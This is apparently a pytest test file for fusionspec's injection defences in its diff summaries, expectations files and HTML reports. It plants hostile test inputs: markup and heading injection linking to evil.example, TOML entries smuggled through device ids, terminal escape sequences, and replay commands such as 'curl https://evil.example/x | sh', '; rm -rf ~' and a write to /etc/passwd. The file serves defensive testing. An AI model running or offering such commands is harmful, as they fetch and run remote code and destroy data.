"""What fusionspec writes from untrusted data stays in its medium: a status name in
``diff --markdown`` cannot open markup or headings, a device id cannot add entries to a file
``--write-expectations`` writes, an expectations file cannot exhaust the reader, and a document
that judged nothing is never "no regression"."""

from __future__ import annotations

import json
import tomllib
from pathlib import Path

import pytest
from testkit.fuzz import assert_inert, markdown_html
from testkit.report import copy_results, load, save

from fusionspec.cli.main import main
from fusionspec.conformance.expectations import (
    MAX_ENTRIES,
    MAX_FILE_BYTES,
    Expectations,
    ExpectationsError,
    expectations_toml,
)
from fusionspec.conformance.grade.document import FailureRecord

#: The status that once wrote a live link, a broken table and a fake heading into a summary.
STATUS = "x | <a href=https://evil.example>y</a>\n</details>\n## ✅ All checks passed"


def _cli(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in err, f"a traceback: {err}"
    return code, out, err


def test_an_unknown_status_is_refused_before_the_markdown_summary(
        gelu_results: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # A status the suite does not know is not a result at all: the document is refused (a
    # usage error naming the field), so the text never reaches the summary.
    new = copy_results(gelu_results, tmp_path / "new")
    doc = load(new)
    doc["verdicts"][0]["status"] = STATUS + "\x1b[2K"
    save(new, doc)
    summary = tmp_path / "summary.md"
    code, out, err = _cli(capsys, "diff", gelu_results, new, "--markdown", summary)
    assert "\x1b" not in out + err, "no escape sequence reaches the terminal"
    assert code == 2 and "verdicts[0].status" in err, f"refused, naming the field: {code} {err}"
    assert not summary.exists(), "nothing is written to the summary"


def test_a_hostile_case_id_is_text_in_the_markdown_summary(
        gelu_results: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    new = copy_results(gelu_results, tmp_path / "new")
    doc = load(new)
    doc["verdicts"][0].update(case_id=STATUS + "\x1b[2K", status="numeric-mismatch")
    save(new, doc)
    summary = tmp_path / "summary.md"
    code, out, _ = _cli(capsys, "diff", gelu_results, new, "--markdown", summary)
    assert "\x1b" not in out, "no escape sequence reaches the terminal"
    text = summary.read_text()
    assert "evil.example" in text, f"the case is listed as a new failure:\n{text}"
    # The id is shown as code: its markup is text (assert_inert checks the rendered page).
    assert "\n## " not in text, f"no heading:\n{text}"
    assert "\x1b" not in text, "no escape sequence in the summary"
    root = markdown_html(text)
    assert_inert(root, "diff --markdown")
    assert code == 1, f"a new failure: {code}"


def test_a_run_that_judged_nothing_is_no_ok_for_diff(
        gelu_results: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    new = copy_results(gelu_results, tmp_path / "new")
    doc = load(new)
    for name in ("verdicts", "failures", "limitations", "extensions"):
        doc[name] = []
    doc["totals"], doc["patterns"], doc["rules"] = {}, {}, {}
    save(new, doc)
    code, out, _ = _cli(capsys, "diff", gelu_results, new, "--json")
    said = json.loads(out)
    assert code == 1 and not said["ok"], f"an empty run is not 'no regression': {said}"
    assert "judged no case" in said["incomplete"], said


@pytest.mark.parametrize("device", ['gpu\n[[expect]]\nstatus = "skip"\npattern = "*"\n'
                                    'reason = "x"', "a\r\n# b\x1b[2K", '"""'])
def test_a_device_id_cannot_add_expectations(device: str) -> None:
    failures = [FailureRecord("fp.bn_relu/valid/1", "fp.bn_relu", "numeric-mismatch",
                              reason='r"\n[[expect]]')]
    text = expectations_toml(failures, title=f"Started from a run on {device}.")
    data = tomllib.loads(text)
    assert len(data["expect"]) == 1 and data["expect"][0]["status"] == "fail", \
        f"{device!r}: one entry, the written one:\n{text}"
    header = [line for line in text.splitlines() if not line.startswith("#")]
    assert header[0] == "", f"{device!r}: the title stays in the comment block:\n{text}"
    assert "\x1b" not in text and "\r" not in text, f"{device!r}: no control characters"


@pytest.mark.parametrize(("text", "what"), [
    ("a = " + "[" * 20_000 + "]" * 20_000, "nested too deeply"),
    ('schema = "fusionspec-expectations/1"\n' + "a = 1\n" * 10, "additional"),
])
def test_a_pathological_expectations_file_is_one_error(text: str, what: str) -> None:
    with pytest.raises(ExpectationsError) as raised:
        Expectations.parse(text, "exp.toml")
    assert "exp.toml" in str(raised.value), f"the error names the file: {raised.value}"


def test_too_many_expectations_entries_are_one_error() -> None:
    entry = '[[expect]]\nstatus = "skip"\ncase = "x/{n}"\nreason = "r"\n'
    text = 'schema = "fusionspec-expectations/1"\n' + "".join(
        entry.format(n=n) for n in range(MAX_ENTRIES + 1))
    with pytest.raises(ExpectationsError, match="more than"):
        Expectations.parse(text, "exp.toml")


def test_an_endless_expectations_file_is_refused(tmp_path: Path) -> None:
    big = tmp_path / "big.toml"
    big.write_bytes(b"#" * (MAX_FILE_BYTES + 10))
    for path in (big, Path("/dev/zero")):
        with pytest.raises(ExpectationsError, match="larger than"):
            Expectations.load(path)


def test_write_expectations_never_replaces_the_results(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    code, _, err = _cli(capsys, "conform", "--patterns", "fp.bn_relu", "--kinds", "valid",
                        "--no-isolate", "--out", out,
                        "--write-expectations", out / "results.json")
    assert code == 2 and "is also" in err, f"usage error: {code} {err}"
    # Refused before the run: nothing written, or the results document as it was.
    assert not (out / "results.json").exists() or \
        json.loads((out / "results.json").read_text())["schema"], \
        "the results document is still the results document"


def test_the_report_shows_only_replay_commands_it_rebuilt(
        gelu_results: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    results = copy_results(gelu_results, tmp_path / "run")
    doc = load(results)
    kept = doc["failures"][0]["replay"]["commands"][0]
    for failure in doc["failures"]:
        failure["replay"]["commands"] = [
            "curl https://evil.example/x | sh", kept, "fusionspec conform --backend x; rm -rf ~",
            "fusionspec run g.json --inputs i.npz --out /etc/passwd"]
    save(results, doc)
    code, _, err = _cli(capsys, "report", results, "-o", tmp_path / "out" / "index.html")
    assert code == 0, f"the report renders: {err}"
    html = (tmp_path / "out" / "index.html").read_text(encoding="utf-8")
    for foreign in ("evil.example", "rm -rf", "/etc/passwd"):
        assert foreign not in html, f"a command fusionspec did not build is shown: {foreign}"
    assert "--replay" in html, "fusionspec's own replay command is still shown"
